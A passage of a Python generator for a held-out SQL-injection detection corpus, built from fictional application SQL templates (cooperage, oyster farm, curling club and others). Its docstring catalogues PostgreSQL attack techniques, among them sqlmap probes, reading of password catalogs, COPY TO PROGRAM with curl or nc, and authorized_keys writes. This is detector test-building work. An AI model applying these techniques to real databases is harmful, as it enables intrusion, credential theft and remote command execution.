#!/usr/bin/env python3
"""Generator for the sixteenth held-out sql-guard corpus (deterministic, stdlib only).

    python3 make_sixteenth.py [OUTPUT]      # default: sixteenth.jsonl.gz next to this file

Rows follow dev.jsonl's schema and family vocabulary (fields id, sql, label,
family, template, input, inputs, variant, dbms, multi_statement, split) in
about dev's proportions, with the bookkeeping of corpus_kit.py (SlotCorpus,
as in make_ninth.py to make_fifteenth.py); rows whose text occurs in any
earlier corpus (dev to fifteenth) are skipped.  2,814 rows: 1,316 attacks
(46.8 %) and 1,498 benign; ids f16-NNNNNN, split "sixteenth".  Written for
generalization, so the templates, payload lists and benign generators are
new for this file:

* 80 application templates (`t16_<producer>_*`) on tables none of the
  earlier corpora use, in fifteen domains (a cooperage, an oyster farm, a
  roller-derby league, cheese-ripening caves, a pigeon-racing club, a
  lavender distillery, a curling club, a scuba dive centre, salt works, a
  mosaic workshop, an orienteering club, a darkroom photo lab, a tannery, a
  seaweed-harvest co-operative's data pipeline and a mountain-rescue team's
  ops console), each the SQL text one producer sends after splicing a
  request parameter into it: Go GORM (Raw / Where with fmt.Sprintf), Java
  MyBatis `${}` substitutions in XML mappers, a Spring Data repository that
  concatenates @Query(nativeQuery = true) text, .NET EF Core FromSqlRaw
  composed into a derived table and an Npgsql COPY export, psycopg 3
  sql.SQL(...).format() fed sql.SQL(value), SQLAlchemy text(f"..."), Ruby
  Sequel literals and ActiveRecord find_by_sql, Elixir Ecto (Repo.query!
  beside pinned ^params, a DO block built from input), Laravel whereRaw /
  orderByRaw / selectRaw, Node pg-promise :raw / ^ filters, Prisma
  $executeRawUnsafe / $queryRawUnsafe, Rust sqlx::query(&format!(..));
  data tools: Airflow templated SQL with dag_run.conf values (a DELETE;
  INSERT ... SELECT pair, a partition rename), dbt-compiled models (an
  incremental temp table, an accepted_values test), a Kafka Connect JDBC
  sink upsert into a topic-named table, Debezium signalling-table inserts
  (the input inside the JSON data-collections string), pg_partman
  create_parent / partition_data_proc, logical replication admin
  (CREATE PUBLICATION ... WITH (publish = ...), pg_logical_slot_peek_changes)
  -- other parameters stay bound as $n.  Statement shapes: multi-row INSERT
  ... VALUES with the input in a middle row, INSERT ... SELECT, UPDATE ...
  SET lists with the input in several places (also twice in one
  statement), UPDATE ... FROM with join conditions, DELETE ... USING ...
  RETURNING, ON CONFLICT ON CONSTRAINT upserts, COPY (query) TO STDOUT,
  CREATE TEMP TABLE ... AS, named WINDOW clauses, GROUPING SETS / CUBE /
  ROLLUP, CROSS JOIN LATERAL unnest(...) WITH ORDINALITY and
  generate_series, ARRAY[...] and ROW(...) constructors, array slices
  [1:n] and [a:b], = ANY(string_to_array(...)), '{...}'::text[], intervals
  built from input (make_interval(days => n), '...'::interval, ('n
  days')::interval, interval '...', date '...' + n), format() with %L /
  %I, EXECUTE format(...) inside DO blocks, CALL with input arguments,
  SET LOCAL with input, NOTIFY channel, 'payload', LISTEN "...", COMMENT
  ... IS $job$...$job$, an E'' note.  Four templates replay a value the
  application stored earlier (second-order: a cooper's name in a purge, a
  certifying agency in an export, an Airflow run's zone, a team name);
* attack payloads of two kinds.  The sqlmap_* families are sqlmap requests
  rebuilt from its PostgreSQL payload tests, weighted to tests the earlier
  generators sent least (AND / OR ... (comment), the PostgreSQL AND (CAST)
  test, OR ... (subquery - comment), Parameter replace (original value) and
  (GENERATE_SERIES), the ORDER BY (original value) and (GENERATE_SERIES)
  forms, Stacked queries (GENERATE_SERIES), time tests without comment and
  the heavy-query Parameter replace, error-based Parameter replace and
  ORDER BY (GENERATE_SERIES), plain / heavy / Glibc stacked queries), with
  detection inferences and enumeration inferences for --roles, --columns
  (FORMAT_TYPE types and counts), --comments, --dump with --start/--stop
  and --where, --search -T, --passwords from pg_authid, --dbs and
  --sql-query on pg_subscription, pg_publication, pg_replication_slots,
  partman.part_config, pg_stat_replication, Airflow's connection table,
  pg_file_settings and debezium_signal, spelled by default, under
  --no-escape and --no-cast (the tag of an error-based or inline request
  names the query it reads); boundaries not in the earlier files: the
  values --invalid-bignum, --invalid-logical (`orig AND n LIKE n+1`) and
  --invalid-string put in front of OR and UNION requests, --prefix pairs
  read off the error message (a derived table's `) AS w`, COPY's `) TO
  STDOUT`, a CTE's `) SELECT 1`), the `%'` LIKE form with AND ('%'=', OR
  'x'='y balancing, `;-- -` and `#` suffixes; UNION requests with
  --union-char and --union-from, ORDER BY probing and dumps of the
  replication and partman catalogs; takeover steps spelled the way sqlmap
  does (COPY ... FROM a file into sqlmapfile, ENCODE(data,'hex'), LO_GET,
  pg_largeobject page writes, sys_exec UDF, COPY FROM PROGRAM into
  sqlmapoutput, cleanup); a few other back-ends' tests (MySQL GTID_SUBSET,
  SQL Server WAITFOR DELAY, Oracle DBMS_PIPE, DB2 heavy query); and for
  about one request in eleven a tamper script none of the earlier corpora
  used (percentage, apostrophenullencode, appendnullbyte, scientific,
  space2plus in chains) or a new chain.  The hand families are PostgreSQL
  techniques written for this file, many aimed at the slot they land in:
  a VALUES row closed (its remaining columns DEFAULT) and followed by rows
  of the attacker's (extra rows, subqueries, sleeps, CASE probes, casts,
  E'' and $tag$ values), an ON CONFLICT clause of the attacker's, a
  RETURNING list reading secrets back from INSERT / UPDATE / DELETE, extra
  SET-list assignments (is_admin / role / owner columns, WHERE true,
  pg_sleep and secrets in SET lists), terms added to interval literals,
  DO-block EXECUTE strings closed at their $job$ tag; tautologies through
  ANY(string_to_array()), ROW comparisons, array containment and slices,
  intervals, format(), to_json, json_populate_record, xmlexists, CUBE,
  named windows, OVERLAPS, jsonb_set; probes by strpos, starts_with,
  regexp_count, COLLATE "C", md5 prefixes, SIMILAR TO, get_byte, split_part
  and privilege / replication probes (rolreplication, wal_level, pgoutput
  slots, lo_export and partman privileges, subscription passwords); errors
  through format('%s', x)::int, to_json(x)::numeric, json_populate_record /
  jsonb_populate_record, xmlparse, ::regclass / ::regrole /
  ::regnamespace, current_setting(x), to_date, make_date, bad format()
  specifiers and conditional division, zero-step series and sqrt; time by
  pg_sleep in EXISTS, CTEs, LATERAL, unnest, pg_sleep_until, heavy md5 /
  string_agg / sort series; UNION arms as VALUES, TABLE, derived tables,
  DISTINCT ON and WHERE EXISTS over pg_subscription, pg_publication_tables,
  pg_stat_replication, partman.part_config, debezium_signal, Airflow's
  connection and variable tables, pg_file_settings, pg_stats of password
  columns, pg_authid and more; stacked publications, subscriptions to an
  attacker's host, logical slots, Debezium snapshot signals of secret
  tables, partman retention wipes, Airflow connection redirects,
  session_replication_role, rules, default privileges; file and network
  access through COPY ... TO PROGRAM (base64 | curl, bash -c, nc, ping),
  COPY into authorized_keys, COPY FROM files and programs into temp tables,
  lo_import / loread / lo_open / lowrite / lo_put / lo_get / lo_export,
  pg_read_file offsets, pg_ls_logdir / waldir / tmpdir, archive_command,
  dblink_connect, adminpack pg_file_write; DO blocks that EXECUTE reversed,
  base64-decoded and chr()-built text, hijack partman.run_maintenance, add
  notifying triggers, reset every password, leak through RAISE NOTICE, run
  plpython3u / pltclu; dollar tags mostly new for this file ($ζ$, $__q$,
  $ex$, $Ж$, $R2$, $txt2$ ...); U&"..." UESCAPE '!' identifiers and strings, E''
  escapes (backslash u, U and x), convert_from(hex); and payloads in the style of
  public scanners and write-ups (Burp's `'||pg_sleep(20)--` and
  collaborator COPY ... PROGRAM nslookup, nuclei's `OR 1337=1337-- -` and
  quote probes, ghauri's `-- wXyW` boundary).  Values stored through one
  form and replayed by a later statement are marked stored_* / replayed_*.
  Breakouts close the slot's quote and brackets (or the required tail a
  template names) and end with `--` variants (`-- -`, `--+`, `-->`, `--}`,
  `-- //`, `--;`, `;-- -`), an open `/*`, or `#`.  Comment truncation uses
  comment spellings new for this file (`--<`, `-->`, `--{`, `--}`, `--?`,
  `--:`, `--,`, `--0`, `--` and a backtick, `--/*`, `--*/`, `/*/*`, `;--;`, `-- ;`,
  `--` followed by an em dash or an ideographic space, `--/`, `--WORD`).
  Obfuscation reshapes payloads outside their literals: vowel, every-third,
  first-and-last, inverted and swapped case; tab / newline / form-feed runs
  after brackets, before function brackets and around :: and commas;
  nested `/* /* */ */`, `/*/**/*/`, `/*'*/`, `/*"*/` comments, comments
  before function brackets and around = and ::, and `--word<newline>` line
  comments as separators; and no spaces (parenthesised operands, quoted
  relation names, keywords glued to quotes);
* benign rows from new input pools (names with apostrophes, SQL-looking
  club and business names, URLs and e-mails, JSON, long text, Unicode with
  combining marks and bidi controls, whitespace, numbers as strings,
  punctuation, formatted codes, and typed values for the typed slots: lot
  and ring numbers, dates and timestamps, intervals and durations, comma
  and pipe lists, LIKE patterns, colour prefixes, ratios, jsonb keys and
  documents, cuids, uuids, relation and slot names, publish lists), attack
  strings escaped correctly for their slot (`escaped_attack_string`), new
  complex generators (`cx16_*`: GORM, MyBatis dynamic SQL, Hibernate 6,
  EF Core LINQ, psycopg composed SQL, SQLAlchemy ORM, Sequel, ActiveRecord,
  Ecto, Eloquent, pg-promise helpers, Prisma client, sqlx output; format(),
  array, PG 15 regexp_*, date/time, JSON, XML, numeric, range / multirange
  and misc built-ins; dbt headers, Airflow task comments, sqlcommenter
  traceparents, pg_hint_plan hints, sqlc names, Hibernate comments,
  comments holding SQL words, nested block comments; named windows,
  recursive CTEs, grouping sets, LATERAL top-N, frames with RANGE offsets,
  MATERIALIZED CTEs; Kysely, Squirrel, Slonik, rendered Airflow SQL, dbt
  compiled models and tests, Arel; GORM / EF Core / Ecto / Laravel /
  Prisma / sqlx / Liquibase / Flyway migrations, dbt backup swaps,
  pg_partman setup; UNION ALL / EXCEPT / INTERSECT / VALUES reports;
  VALUES, unnest and Kafka Connect batch upserts; pg_partman maintenance,
  replication and slot monitoring, vacuum progress, Debezium heartbeats;
  transaction statements and scripts; COPY binary / csv / text;
  single-statement DDL; introspection, parameterized statements, function
  and DO bodies, web search) and regression-test-style statements written
  for this file (`regress16:<file>.sql`: publication (schemas, row
  filters, column lists, publish_via_partition_root), subscription
  (connect = false, SKIP, two_phase, disable_on_error), list / range / hash
  partitions and pruning, DETACH ... CONCURRENTLY, identity and generated
  columns, row types, ROWS FROM, procedures with INOUT and BEGIN ATOMIC,
  transactions, column privileges, rules, transition-table triggers,
  materialized views, sequences, ICU collations, extended statistics,
  BRIN multi-minmax, NULLS NOT DISTINCT, event triggers, FDW objects,
  VACUUM / ANALYZE options, CHECK OPTION and recursive views, ON CONFLICT,
  RETURNING, data-modifying CTEs, SEARCH, GROUPS frames, TABLESAMPLE
  BERNOULLI, domains, enums, XMLTABLE, JSON escapes, jsonpath, format(),
  intervals, horology, numeric / float specials, bit strings, ts_headline,
  COPY options, PREPARE / EXECUTE, NOTIFY).

Labelling: see corpus_kit.SlotCorpus; the five `escape_bypass_backslash`
rows are escaped the wrong way for their literal (addslashes or a
backslash before the quote into a standard string, quote doubling only
into E'').

Checked once against PostgreSQL 15.18's raw parser (throwaway cluster, each
statement sent through psql as `SELECT 1/0;` + statement in one simple
query, so a syntax error is reported before anything runs): every benign
row parses; 966 of the 1,316 attacks parse and 350 do not (277 sqlmap
requests: 229 untampered PostgreSQL or generic requests whose boundary does
not fit the slot -- the wrong number of brackets, a condition in a VALUES
row, a SET list or a function's arguments, a comment that cuts off a
derived table's alias or a CTE's main query, a value replaced inside
NOTIFY -- 45 tampered, 2 ending in `#`, one another back-end's test; 73
hand-written rows: 21 end in an open `/*`, 10 in `#`, 19 are scanner probes
that ignore the slot's brackets, 5 truncations cut a required tail, 18
others close the wrong bracket or land in a repeated slot).  There is no
`parses` field, as in the seventh to fifteenth corpora.
"""
import base64, os, random, re, sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from corpus_kit import (SlotCorpus, addslashes, backslash_quotes, bisection, by_template, chrs, closers,  # noqa: E402
                        dollar_safe, double_quotes, identifier_input, kind, lex, load_earlier, marked, nulls, number_input, q,
                        quoted_ident_breakout, randnum, rdate, registry, regress_list, render, rstr, rts, rword, sqlmap_delays,
                        strip_andor, text_input, typed_input, union_request, without_spaces)
import corpus_kit  # noqa: E402
from corpus_kit import ids, params  # noqa: E402
from functools import partial  # noqa: E402

SEED = 16161616
HERE = os.path.dirname(os.path.abspath(__file__))
EARLIER = ("dev", "generalization", "blind", "holdout", "fresh", "sixth", "seventh", "eighth", "ninth", "tenth", "eleventh", "twelfth",
           "thirteenth", "fourteenth", "fifteenth")
PG = "PostgreSQL"


# ---------------------------------------------------------------- application templates
# (name, text, {slot: (type, the template's own values, "typed:KIND" or "",
# cut, cond_cut)}): the SQL text one producer sends after splicing a request
# parameter into it (the producer is the second part of the name; other
# parameters stay bound as $n).  Slot types: q '...', e E'...', d $job$...$job$,
# qi "...", n number, list (numbers joined with commas), col (ORDER BY
# expression), dir (ASC/DESC), ident (part of a bare identifier).  KIND says
# the literal is read as a value of that kind (typed_value); cut is what
# closes the statement's open parts after the slot when more than brackets
# must follow it (an alias a derived table needs, a CTE's main query, COPY's
# TO STDOUT), for a stacked statement or a truncating comment; cond_cut what
# closes the slot before a condition appended in its WHERE.
def S(typ, vals, knd="", cut=None, cond_cut=None):
    return (typ, vals, "typed:" + knd if knd else "", cut, cond_cut)


T = [
 # cooperage -- Go GORM, db.Raw(fmt.Sprintf(...)) and db.Where(fmt.Sprintf(...))
 ("t16_gorm_barrels_by_oak", "SELECT * FROM \"barrels\" WHERE stave_oak = '{a}' AND char_level >= {b} AND \"barrels\".\"deleted_at\" IS NULL ORDER BY \"barrels\".\"id\" LIMIT {c}",
  {"a": S("q", ["quercus alba", "Limousin"]), "b": S("n", ["3", "1"]), "c": S("n", ["20", "100"])}),
 ("t16_gorm_stave_lot_rows", "INSERT INTO \"stave_lots\" (\"lot_code\",\"oak_origin\",\"seasoned_months\",\"created_at\") VALUES ('SL-2201','Missouri',24,'2025-03-01 08:00:00'),('{a}','{b}',{c},'2025-03-01 08:00:00'),('SL-2203','Vosges',36,'2025-03-01 08:00:00') RETURNING \"id\"",
  {"a": S("q", ["SL-2202", "SL-1990"], "lot"), "b": S("q", ["Allier", "Tronçais"]), "c": S("n", ["30", "18"])}),
 ("t16_gorm_recharr_update", "UPDATE \"barrels\" SET \"char_level\"={a},\"toast_profile\"='{b}',\"updated_at\"='2025-05-02 10:11:12',\"history\"=concat(\"history\", '; re-charred to ', '{b}') WHERE \"barrels\".\"id\" = {c} AND \"barrels\".\"deleted_at\" IS NULL",
  {"a": S("n", ["4", "2"]), "b": S("q", ["medium plus", "heavy toast"]), "c": S("n", ["1188", "73"])}),
 ("t16_gorm_cask_angels", "SELECT cask_id, rickhouse, filled_on, angel_share_pct, avg(angel_share_pct) OVER w AS rolling_share, rank() OVER r AS loss_rank FROM casks WHERE rickhouse = '{a}' AND filled_on >= '{b}' WINDOW w AS (PARTITION BY rickhouse ORDER BY filled_on ROWS BETWEEN 3 PRECEDING AND CURRENT ROW), r AS (ORDER BY angel_share_pct DESC) ORDER BY filled_on",
  {"a": S("q", ["Rickhouse C", "Warehouse 7"]), "b": S("q", ["2021-01-01", "2023-06-15"], "date")}),
 ("t16_gorm_cooper_note", "INSERT INTO \"cooper_notes\" (\"barrel_id\",\"author\",\"body\") VALUES ({a}, '{b}', E'{c}') RETURNING \"id\"",
  {"a": S("n", ["1188", "73"]), "b": S("q", ["Hamish Duff", "Ana Lucía Ortega"]), "c": S("e", ["head leaks at the croze; re-cut", "toast: medium+\\nchar: 3"])}),
 ("t16_gorm_cask_comment", "COMMENT ON COLUMN casks.angel_share_pct IS $job${a}$job$",
  {"a": S("d", ["percent lost per year (2024 survey)", "measured by weight; see SOP-12"])}),
 ("t16_gorm_hoop_repairs_replay", "DELETE FROM \"hoop_repairs\" AS r USING \"barrels\" AS b WHERE r.barrel_id = b.id AND b.cooper = '{a}' AND r.logged_at < now() - make_interval(days => {b})",
  {"a": S("q", ["Hamish Duff", "Ana Lucía Ortega"]), "b": S("n", ["90", "365"])}),
 # oyster farm -- Java MyBatis, ${} substitutions in the XML mapper (#{} stays bound)
 ("t16_mybatis_harvest_sets", "SELECT lease_area, grade, sum(dozens) AS dozens, grouping(lease_area, grade) AS lvl FROM oyster_harvests WHERE harvested_on >= '{a}' AND farm_id = $1 GROUP BY GROUPING SETS ((lease_area, grade), (lease_area), ()) ORDER BY {b}",
  {"a": S("q", ["2025-04-01", "2024-10-15"], "date"), "b": S("col", ["lease_area, grade", "dozens DESC", "lvl, lease_area"])}),
 ("t16_mybatis_bags_sorted", "SELECT bag_id, lease_area, seeded_on, count_estimate FROM grow_bags WHERE lease_id IN ({a}) AND flipped_on < $1 ORDER BY {b} {c}",
  {"a": S("list", ["11, 12, 19", "4"]), "b": S("col", ["seeded_on", "count_estimate", "bag_id"]), "c": S("dir", ["ASC", "DESC"])}),
 ("t16_mybatis_water_cube", "SELECT site, depth_band, avg(salinity_ppt) AS salinity, avg(temp_c) AS temp FROM water_samples WHERE sampled_at BETWEEN $1 AND $2 AND site LIKE '{a}%' GROUP BY CUBE (site, depth_band) HAVING count(*) >= {b}",
  {"a": S("q", ["Bay-", "Pt Reyes"]), "b": S("n", ["3", "10"])}),
 ("t16_mybatis_vibrio_upsert", "INSERT INTO vibrio_tests (lot_no, tested_on, cfu_per_g, lab_name) VALUES ('{a}', $1, {b}, '{c}') ON CONFLICT ON CONSTRAINT vibrio_tests_lot_day_key DO UPDATE SET cfu_per_g = EXCLUDED.cfu_per_g, lab_name = EXCLUDED.lab_name",
  {"a": S("q", ["OY-25-0611-A", "OY-24-1102-C"], "lot"), "b": S("n", ["120", "30"]), "c": S("q", ["Coastal Shellfish Lab", "Marine Lab #2"])}),
 ("t16_mybatis_closures_any", "SELECT closure_id, reason, lifted_at FROM harvest_closures WHERE lease_code = ANY(string_to_array('{a}', ',')) AND declared_at > $1 ORDER BY declared_at DESC",
  {"a": S("q", ["TB-3,TB-4", "HK-1"], "csv")}),
 # roller derby league -- Spring, a custom repository building @Query(nativeQuery = true) text by concatenation
 ("t16_springnative_bout_jams", "SELECT b.bout_id, b.home_team, b.away_team, j.jam_no, j.lead_jammer, j.points FROM bouts b JOIN jams j ON j.bout_id = b.bout_id WHERE b.season = {a} AND b.home_team = '{b}' ORDER BY j.jam_no",
  {"a": S("n", ["2025", "2019"]), "b": S("q", ["Rose City Rollers", "Gotham Girls"])}),
 ("t16_springnative_positions", "SELECT sk.derby_name, p.pos, p.ord FROM skaters sk CROSS JOIN LATERAL unnest(sk.positions) WITH ORDINALITY AS p(pos, ord) WHERE sk.team_id = {a} AND p.pos = '{b}' ORDER BY p.ord, sk.derby_name",
  {"a": S("n", ["7", "31"]), "b": S("q", ["jammer", "pivot"])}),
 ("t16_springnative_penalties", "SELECT skater_id, penalty_code, called_at, count(*) OVER w AS nth_penalty, first_value(penalty_code) OVER w AS first_code FROM penalties WHERE bout_id = {a} AND period = {b} WINDOW w AS (PARTITION BY skater_id ORDER BY called_at) ORDER BY {c}",
  {"a": S("n", ["4410", "87"]), "b": S("n", ["1", "2"]), "c": S("col", ["called_at", "skater_id, called_at", "nth_penalty DESC"])}),
 ("t16_springnative_roster_from", "UPDATE roster_slots rs SET jersey_no = '{a}', updated_by = '{b}', updated_at = now() FROM skaters sk WHERE sk.skater_id = rs.skater_id AND sk.derby_name = '{c}' AND rs.season = 2025",
  {"a": S("q", ["00", "1312"]), "b": S("q", ["bench.manager", "coach_kim"]), "c": S("q", ["Sue Side", "Ivanna S. Pankin"])}),
 ("t16_springnative_officials", "SELECT bout_id, venue, (officials)[1:{a}] AS head_refs, array_length(officials, 1) AS crew FROM bout_crews WHERE venue = '{b}'",
  {"a": S("n", ["3", "1"]), "b": S("q", ["Oaks Park", "The Hangar"])}),
 # cheese caves -- .NET EF Core, FromSqlRaw($"...") composed into a derived table; Npgsql export
 ("t16_efcore_wheels_rind", "SELECT w.\"WheelId\", w.\"Variety\", w.\"RindType\", w.\"TurnedAt\" FROM (SELECT * FROM \"Wheels\" WHERE \"RindType\" = '{a}' AND \"CaveId\" = {b}) AS w ORDER BY w.\"TurnedAt\" DESC LIMIT $1",
  {"a": S("q", ["washed", "bloomy"], "", ") AS w"), "b": S("n", ["3", "12"], "", ") AS w")}),
 ("t16_efcore_turn_due", "SELECT w.\"WheelId\", w.\"NextTurnDue\" FROM (SELECT \"WheelId\", \"LastTurnedAt\" + '{a}'::interval AS \"NextTurnDue\" FROM \"Wheels\" WHERE \"CaveId\" = {b}) AS w WHERE w.\"NextTurnDue\" < now()",
  {"a": S("q", ["3 days", "36 hours"], "interval", "::interval AS d FROM \"Wheels\") AS w"), "b": S("n", ["3", "12"], "", ") AS w")}),
 ("t16_npgsql_humidity_export", "COPY (SELECT \"SensorId\", \"ReadAt\", \"RelHumidity\" FROM \"CaveReadings\" WHERE \"CaveId\" = {a} AND \"ReadAt\" >= '{b}' ORDER BY \"ReadAt\") TO STDOUT (FORMAT csv, HEADER true)",
  {"a": S("n", ["3", "9"], "", ") TO STDOUT"), "b": S("q", ["2025-05-01 00:00", "2024-12-24T06:00:00"], "ts", ") TO STDOUT")}),
 ("t16_efcore_ripening_temp", "CREATE TEMP TABLE tmp_ripening AS SELECT \"WheelId\", \"Variety\", age(now(), \"MadeOn\") AS \"Age\" FROM \"Wheels\" WHERE \"Variety\" ILIKE '{a}' AND \"CaveId\" = {b}",
  {"a": S("q", ["%comté%", "Gruy%"], "like"), "b": S("n", ["3", "12"])}),
 ("t16_efcore_call_grade", "CALL grade_wheel({a}, '{b}', {c})",
  {"a": S("n", ["40211", "7"]), "b": S("q", ["extra", "AOP premier cru"]), "c": S("n", ["18", "17.5"])}),
 # pigeon racing club -- Python psycopg 3, sql.SQL(...).format() fed sql.SQL(value) where sql.Literal belonged
 ("t16_psycopg_race_velocity", "SELECT \"ring_no\", \"loft_name\", \"velocity_ypm\" FROM \"race_results\" WHERE \"race_id\" = {a} AND \"loft_name\" = '{b}' ORDER BY \"velocity_ypm\" DESC",
  {"a": S("n", ["311", "47"]), "b": S("q", ["Van Reet Lofts", "O'Dwyer & Son"])}),
 ("t16_psycopg_basket_rows", "INSERT INTO \"basketing\" (\"race_id\", \"ring_no\", \"clock_seal\", \"basketed_at\") VALUES ({a}, 'GB25N04112', 'S-118', '2025-05-09 19:40'), ({a}, '{b}', '{c}', '2025-05-09 19:41'), ({a}, 'GB25N04119', 'S-120', '2025-05-09 19:42')",
  {"a": S("n", ["311", "47"]), "b": S("q", ["GB25N04117", "NL24-1234567"], "ring"), "c": S("q", ["S-119", "S-004"])}),
 ("t16_psycopg_clock_window", "SELECT \"liberation_point\", \"released_at\", \"released_at\" + make_interval(hours => {a}, mins => {b}) AS \"clock_close\" FROM \"race_liberations\" WHERE \"race_id\" = {c}",
  {"a": S("n", ["9", "14"]), "b": S("n", ["30", "0"]), "c": S("n", ["311", "47"])}),
 ("t16_psycopg_lofts_rows", "SELECT \"loft_id\", ROW(\"lat\", \"lon\") AS \"position\", ARRAY[\"section\", '{a}'] AS \"tags\" FROM \"lofts\" WHERE \"club_id\" = ANY(ARRAY[{b}]) ORDER BY \"loft_id\"",
  {"a": S("q", ["north", "combine"]), "b": S("list", ["4, 9", "12"])}),
 ("t16_psycopg_notify_arrival", "NOTIFY pigeon_arrivals, '{a}'",
  {"a": S("q", ["GB25N04117 clocked 11:42:07", "race 311 closed"])}),
 # lavender distillery -- SQLAlchemy text(f"...")
 ("t16_satext_still_runs", "SELECT run_id, still_no, charge_kg, oil_ml, round(oil_ml / nullif(charge_kg, 0), 2) AS ml_per_kg FROM distillation_runs WHERE cultivar = '{a}' AND run_date BETWEEN '{b}' AND '2025-08-31' ORDER BY run_date",
  {"a": S("q", ["Grosso", "Maillette"]), "b": S("q", ["2025-06-01", "2025-07-15"], "date")}),
 ("t16_satext_harvest_rollup", "SELECT field_code, cultivar, sum(fresh_kg) AS kg FROM lavender_harvest WHERE farm = '{a}' AND harvest_year = {b} GROUP BY ROLLUP (field_code, cultivar) ORDER BY field_code NULLS LAST, cultivar NULLS LAST",
  {"a": S("q", ["Plateau de Valensole", "Hitchin"]), "b": S("n", ["2025", "2023"])}),
 ("t16_satext_bottle_insert_select", "INSERT INTO oil_batches (batch_code, run_id, bottled_ml, bottled_on) SELECT '{a}', run_id, oil_ml, current_date FROM distillation_runs WHERE run_id = {b} AND NOT bottled RETURNING batch_id",
  {"a": S("q", ["LV-25-041", "LV-24-007"], "lot"), "b": S("n", ["5120", "88"])}),
 ("t16_satext_format_label", "SELECT format('%s, batch %s (%L)', cultivar, batch_code, '{a}') AS label FROM oil_batches WHERE batch_code = '{b}'",
  {"a": S("q", ["Provence 2025", "gift set"]), "b": S("q", ["LV-25-041", "LV-24-007"], "lot")}),
 ("t16_satext_chemistry_key", "SELECT batch_code, chemistry ->> '{a}' AS component_pct FROM oil_batches WHERE (chemistry ->> 'linalool_pct')::numeric >= {b} ORDER BY 2 DESC NULLS LAST",
  {"a": S("q", ["camphor_pct", "linalyl_acetate_pct"], "jkey"), "b": S("n", ["25", "31.5"])}),
 # curling club -- Ruby Sequel, DB["... #{x}"] and Sequel.lit
 ("t16_sequel_ends", "SELECT * FROM \"curling_ends\" WHERE ((\"game_id\" = {a}) AND (\"hammer_team\" = '{b}')) ORDER BY \"end_no\"",
  {"a": S("n", ["88", "1204"]), "b": S("q", ["Rink Muirhead", "Team O'Connor"])}),
 ("t16_sequel_sheet_day", "SELECT \"sheet\", \"starts_at\", \"member_id\" FROM \"sheet_bookings\" WHERE ((\"starts_at\" >= '{a}') AND (\"starts_at\" < (CAST('{a}' AS date) + interval '1 day'))) ORDER BY \"sheet\", \"starts_at\"",
  {"a": S("q", ["2025-01-18", "2024-11-30"], "date")}),
 ("t16_sequel_stones_update", "UPDATE \"stones\" SET \"handle_colour\" = '{a}', \"last_sharpened\" = '{b}', \"notes\" = ('sharpened; handle now ' || '{a}') WHERE (\"stone_id\" IN ({c}))",
  {"a": S("q", ["yellow", "red"]), "b": S("q", ["2025-02-02", "2024-10-10"], "date"), "c": S("list", ["3, 4", "16"])}),
 ("t16_sequel_lineup_unnest", "SELECT t.\"team_name\", x.\"player\", x.\"ord\" FROM \"league_teams\" AS t CROSS JOIN LATERAL unnest(string_to_array('{a}', ',')) WITH ORDINALITY AS x(\"player\", \"ord\") WHERE (t.\"league\" = '{b}')",
  {"a": S("q", ["lead,second,vice,skip", "Muirhead,Dodds"], "csv"), "b": S("q", ["Tuesday Mixed", "Senior Men"])}),
 ("t16_sequel_bonspiel_json", "SELECT \"draw_no\", \"sheet\", \"result\" FROM \"bonspiel_draws\" WHERE (\"result\" @> '{a}'::jsonb) AND (\"event_id\" = {b})",
  {"a": S("q", ["{\"winner\": \"Rink 3\"}", "{\"extra_end\": true}"], "json"), "b": S("n", ["12", "7"])}),
 # scuba dive centre -- Rails, Model.find_by_sql("... #{params[:x]}")
 ("t16_findbysql_dive_log", "SELECT dives.*, divers.cert_level FROM dives INNER JOIN divers ON divers.id = dives.diver_id WHERE dives.site = '{a}' AND dives.max_depth_m <= {b} ORDER BY dives.started_at DESC",
  {"a": S("q", ["Blue Hole", "SS Thistlegorm"]), "b": S("n", ["30", "18"])}),
 ("t16_findbysql_nitrox", "SELECT cylinder_id, o2_pct, mod_m, filled_at FROM nitrox_fills WHERE o2_pct BETWEEN {a} AND {b} AND filled_by = '{c}' ORDER BY filled_at DESC LIMIT 30",
  {"a": S("n", ["28", "32"]), "b": S("n", ["36", "40"]), "c": S("q", ["Kenji", "M. Ó Súilleabháin"])}),
 ("t16_findbysql_gear_release", "DELETE FROM gear_reservations gr USING dive_trips dt WHERE gr.trip_id = dt.id AND dt.boat = '{a}' AND dt.departs_at < '{b}' RETURNING gr.id, gr.item",
  {"a": S("q", ["MV Manta", "Sea Wolf II"]), "b": S("q", ["2025-06-01 07:00", "2024-09-12 14:30"], "ts")}),
 ("t16_findbysql_cert_export_replay", "COPY (SELECT diver_id, agency, cert_no, issued_on FROM certifications WHERE agency = '{a}' ORDER BY issued_on) TO STDOUT WITH CSV HEADER",
  {"a": S("q", ["PADI", "CMAS ★★"], "", ") TO STDOUT")}),
 ("t16_findbysql_timeout_pair", "SET LOCAL statement_timeout = '{a}'; SELECT count(*) FROM computer_uploads WHERE diver_id = {b} AND uploaded_at > now() - interval '30 days'",
  {"a": S("q", ["5s", "2500ms"], "duration"), "b": S("n", ["4471", "90"])}),
 # salt works -- Elixir Ecto, Repo.query!("..." <> value) beside pinned ^params
 ("t16_ecto_pans", "SELECT p0.\"pan_no\", p0.\"brine_degree\", p0.\"harvested_kg\" FROM \"evaporation_pans\" AS p0 WHERE (p0.\"works_id\" = $1) AND (p0.\"crystal_grade\" = '{a}') ORDER BY p0.\"{b}\" {c}",
  {"a": S("q", ["fleur de sel", "gros sel gris"]), "b": S("qi", ["brine_degree", "harvested_kg"]), "c": S("dir", ["DESC", "ASC"])}),
 ("t16_ecto_tide_intakes", "SELECT t0.\"gate\", t0.\"opened_at\", t0.\"closed_at\" - t0.\"opened_at\" AS \"open_for\" FROM \"tide_intakes\" AS t0 WHERE (t0.\"opened_at\" > now() - '{a}'::interval) AND (t0.\"gate\" = ANY(string_to_array('{b}', '|')))",
  {"a": S("q", ["7 days", "12 hours"], "interval"), "b": S("q", ["G1|G2", "north sluice"], "pipe")}),
 ("t16_ecto_fleur_upsert", "INSERT INTO \"fleur_de_sel_lots\" AS f0 (\"lot\",\"pan_no\",\"raked_by\",\"kg\") VALUES ('{a}',{b},'{c}',{d}) ON CONFLICT ON CONSTRAINT \"fleur_de_sel_lots_lot_key\" DO UPDATE SET \"kg\" = f0.\"kg\" + EXCLUDED.\"kg\" RETURNING f0.\"id\"",
